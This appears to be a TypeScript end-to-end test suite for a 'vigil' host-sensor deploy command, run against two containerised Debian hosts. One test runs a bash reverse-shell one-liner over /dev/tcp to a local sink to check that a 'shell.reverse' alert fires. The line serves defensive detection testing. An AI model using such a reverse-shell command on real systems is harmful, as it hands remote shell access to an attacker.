/**
 * `vigil deploy` to two real hosts: Debian bookworm roots booted by systemd-nspawn with their own
 * systemd and sshd (test/support/nspawn-host.ts), reached over the ssh binary as root. A real
 * nats-server with one user per host (static credentials: this branch has no enrollment) and a real
 * control plane on this machine; no local sensor. Each host's sensor runs from the bundle under
 * vigil-sensor.service and must heartbeat under its own host id, and alert on an attack run there.
 */
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { createServer, type Server } from 'node:net';
import { readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { pino } from 'pino';
import type { AlertV1, StatusReport } from '@vigil/schema';
import { startLocalNats, type LocalNats } from '@vigil/cli/nats-server';
import { freePort, startVigil, tempDir, vigil, vigilJson, waitFor } from '../support/harness.js';
import { startHost, testKey, type TestHost } from '../support/nspawn-host.js';

const dir = tempDir('deploy-e2e');
const log = pino({ level: 'silent' });
const HOSTS = ['deploy-a', 'deploy-b'] as const;
const SENSOR_PASSWORD = `v${randomBytes(24).toString('hex')}`;
const CONTROL_PLANE_PASSWORD = `v${randomBytes(24).toString('hex')}`;
const UPGRADE = '0.1.0-upgrade.1';
let nats: LocalNats;
let cp: ReturnType<typeof startVigil>;
let api = '';
let sshConfig = '';
let sink: Server;
let sinkPort = 0;
const hosts: TestHost[] = [];
const bundles: Record<string, string> = {};

const natsConf = (): string => {
  const blocks = HOSTS.map(
    (h) =>
      `  SENSOR_${h.replace('-', '_')} = {\n    publish: ["vigil.events.${h}.>", "vigil.sensor.${h}.>"]\n    subscribe: ["_INBOX_sensor.${h}.>"]\n  }`,
  );
  const users = HOSTS.map(
    (h) => `    { user: "${h}", password: $SENSOR_PASSWORD, permissions: $SENSOR_${h.replace('-', '_')} }`,
  );
  return `authorization {\n${blocks.join('\n')}\n  CONTROL_PLANE = { publish: [">"], subscribe: [">"] }\n  users: [\n${users.join('\n')}\n    { user: "control-plane", password: $CONTROL_PLANE_PASSWORD, permissions: $CONTROL_PLANE }\n  ]\n}\n`;
};

const deployArgs = (bundle: string) => [
  'deploy',
  '--ssh-config',
  sshConfig,
  '--bundle',
  bundle,
  '--nats-url',
  nats.url,
  '--nats-user',
  '{host}',
  '--heartbeat-timeout',
  '90',
];
type Outcome = { target: string; host: string | null; ok: boolean; step: string; error?: string };
const deployEnv = { VIGIL_DEPLOY_NATS_PASSWORD: SENSOR_PASSWORD };
const hostNamed = (name: string): TestHost => hosts.find((h) => h.name === name)!;

before(
  async () => {
    const key = testKey(dir);
    for (const name of HOSTS) hosts.push(await startHost(name, key));
    sshConfig = join(dir, 'ssh_config');
    writeFileSync(sshConfig, hosts.map((h) => h.sshConfig).join('\n'));
    writeFileSync(join(dir, 'nats.conf'), natsConf());
    nats = await startLocalNats({
      dataDir: dir,
      port: await freePort(),
      configFile: join(dir, 'nats.conf'),
      log,
      env: { SENSOR_PASSWORD, CONTROL_PLANE_PASSWORD },
    });
    const apiPort = await freePort();
    api = `http://127.0.0.1:${apiPort}`;
    cp = startVigil(
      [
        'control-plane',
        '--data-dir',
        join(dir, 'ch'),
        '--nats',
        nats.url,
        '--nats-user',
        'control-plane',
        '--api-port',
        String(apiPort),
      ],
      { VIGIL_NATS_PASSWORD: CONTROL_PLANE_PASSWORD },
    );
    await waitFor(
      'the control plane on NATS',
      () => vigilJson<StatusReport>(api, ['status']).controlPlane.nats === 'connected',
      60_000,
      300,
    );
    for (const [version, args] of [
      ['0.1.0', []],
      [UPGRADE, ['--set-version', UPGRADE]],
    ] as const) {
      const out = join(dir, `bundle-${version}`);
      const r = vigil(api, ['bundle', '--out', out, ...args]);
      assert.equal(r.status, 0, r.stderr);
      bundles[version] = join(out, readdirSync(out)[0]!);
    }
    sink = createServer((s) => s.on('error', () => {}));
    sinkPort = await freePort();
    await new Promise<void>((r) => sink.listen(sinkPort, '127.0.0.1', r));
  },
  { timeout: 900_000 },
);

after(async () => {
  sink?.close();
  for (const h of hosts) await h.stop();
  await cp?.stop();
  await nats?.stop();
});

test('deploy to two hosts: each heartbeats under its own host id, from its own unit', { timeout: 600_000 }, () => {
  const r = vigil(api, [...deployArgs(bundles['0.1.0']!), ...HOSTS, '--json'], deployEnv);
  assert.equal(r.status, 0, `${r.stdout}\n${r.stderr}`);
  const { hosts: outcomes } = JSON.parse(r.stdout) as { hosts: Outcome[] };
  assert.deepEqual(
    outcomes.map((o) => [o.target, o.host, o.ok, o.step]),
    HOSTS.map((h) => [h, h, true, 'heartbeat']),
  );
  const status = vigilJson<StatusReport>(api, ['status']);
  for (const name of HOSTS) {
    assert.ok(
      status.sensors.some((s) => s.host === name),
      `${name} heartbeats`,
    );
    const h = hostNamed(name);
    assert.equal(h.ssh('systemctl is-active vigil-sensor.service').trim(), 'active');
    assert.equal(h.ssh('systemctl is-enabled vigil-sensor.service').trim(), 'enabled');
    assert.equal(h.ssh('stat -c %a /etc/vigil/sensor.env').trim(), '600');
    assert.equal(h.ssh('readlink /opt/vigil/current').trim(), '0.1.0');
    assert.match(h.ssh('grep VIGIL_NATS_USER /etc/vigil/sensor.env'), new RegExp(`"${name}"`));
    // The unit's limits hold, and the sensor did its work under them (the pageout helper included).
    const unit = h.ssh(
      'systemctl show -p CapabilityBoundingSet -p NoNewPrivileges -p ProtectSystem -p ProtectKernelTunables vigil-sensor',
    );
    assert.match(unit, /NoNewPrivileges=yes/);
    assert.match(unit, /ProtectSystem=strict/);
    assert.match(unit, /ProtectKernelTunables=yes/);
    assert.match(unit, /cap_bpf/);
    assert.doesNotMatch(unit, /cap_net_admin|cap_sys_module/);
    assert.equal(h.ssh('journalctl -u vigil-sensor --no-pager | grep -c PageoutError; true').trim(), '0');
  }
});

test('an attack on each host raises an alert under that host id', { timeout: 300_000 }, async () => {
  for (const name of HOSTS) {
    hostNamed(name).sshStatus(`timeout 3 bash -c 'bash -i >& /dev/tcp/127.0.0.1/${sinkPort} 0>&1; true'`);
  }
  for (const name of HOSTS) {
    await waitFor(
      `a shell.reverse alert from ${name}`,
      () => vigilJson<AlertV1[]>(api, ['alerts', '--host', name]).some((a) => a.ruleId === 'shell.reverse'),
      120_000,
      1000,
    );
  }
});

test('--dry-run prints the plan and changes nothing', { timeout: 120_000 }, () => {
  const h = hostNamed('deploy-a');
  const state = 'ls -la --full-time /opt/vigil /etc/vigil; systemctl show -p ActiveEnterTimestamp vigil-sensor.service';
  const before = h.ssh(state);
  const r = vigil(api, [...deployArgs(bundles[UPGRADE]!), 'deploy-a', '--dry-run'], deployEnv);
  assert.equal(r.status, 0, r.stderr);
  assert.match(r.stdout, /dry run: nothing changes/);
  assert.match(r.stdout, new RegExp(`deploy-a: install vigil-sensor ${UPGRADE.replaceAll('.', '\\.')}`));
  assert.equal(h.ssh(state), before);
});

test('a re-deploy upgrades in place, keeping the version before; an unreachable host fails alone', {
  timeout: 600_000,
}, async () => {
  const closed = await freePort();
  const r = vigil(api, [...deployArgs(bundles[UPGRADE]!), 'deploy-a', `127.0.0.1:${closed}`, '--json'], deployEnv);
  assert.equal(r.status, 1, `${r.stdout}\n${r.stderr}`);
  const { hosts: outcomes } = JSON.parse(r.stdout) as { hosts: Outcome[] };
  assert.deepEqual(
    outcomes.map((o) => [o.target, o.ok, o.step]),
    [
      ['deploy-a', true, 'heartbeat'],
      [`127.0.0.1:${closed}`, false, 'probe'],
    ],
  );
  assert.match(outcomes[1]!.error!, /refused/i);
  const h = hostNamed('deploy-a');
  assert.equal(h.ssh('readlink /opt/vigil/current').trim(), UPGRADE);
  assert.equal(h.ssh('readlink /opt/vigil/previous').trim(), '0.1.0');
  assert.deepEqual(h.ssh('ls /opt/vigil').trim().split('\n').sort(), ['0.1.0', UPGRADE, 'current', 'previous'].sort());
  const running = JSON.parse(h.ssh('/opt/vigil/current/bin/vigil version --json --api http://127.0.0.1:9')) as {
    cli: string;
  };
  assert.equal(running.cli, UPGRADE);
  assert.match(h.ssh('systemctl show -p ExecMainPID --value vigil-sensor.service'), /^[1-9]\d*$/m);
});

test('--uninstall removes the unit, /opt/vigil and /etc/vigil', { timeout: 300_000 }, () => {
  const r = vigil(api, ['deploy', '--ssh-config', sshConfig, 'deploy-b', '--uninstall', '--json']);
  assert.equal(r.status, 0, `${r.stdout}\n${r.stderr}`);
  const h = hostNamed('deploy-b');
  assert.notEqual(h.sshStatus('systemctl cat vigil-sensor.service').status, 0);
  assert.equal(h.sshStatus('test -e /opt/vigil || test -e /etc/vigil || test -e /var/lib/vigil').status, 1);
  assert.equal(h.sshStatus('pgrep -f /opt/vigil').status, 1);
});

test('a host without bpftrace fails at deps, saying so; --install-deps installs it with apt', {
  timeout: 600_000,
}, () => {
  const h = hostNamed('deploy-b');
  h.ssh('dpkg -r bpftrace >/dev/null');
  const r = vigil(api, [...deployArgs(bundles['0.1.0']!), 'deploy-b', '--json'], deployEnv);
  assert.equal(r.status, 1, `${r.stdout}\n${r.stderr}`);
  const [failed] = (JSON.parse(r.stdout) as { hosts: Outcome[] }).hosts;
  assert.equal(failed?.step, 'deps');
  assert.match(failed?.error ?? '', /bpftrace is missing \(--install-deps installs it/);
  assert.equal(h.sshStatus('test -e /opt/vigil').status, 1);

  // From the Debian mirror the host's apt is set to, as on a real host.
  const again = vigil(api, [...deployArgs(bundles['0.1.0']!), 'deploy-b', '--install-deps', '--json'], deployEnv);
  assert.equal(again.status, 0, `${again.stdout}\n${again.stderr}`);
  assert.deepEqual(
    (JSON.parse(again.stdout) as { hosts: Outcome[] }).hosts.map((o) => [o.ok, o.step]),
    [[true, 'heartbeat']],
  );
  assert.match(h.ssh('dpkg -s bpftrace'), /^Status: install ok installed$/m);
});
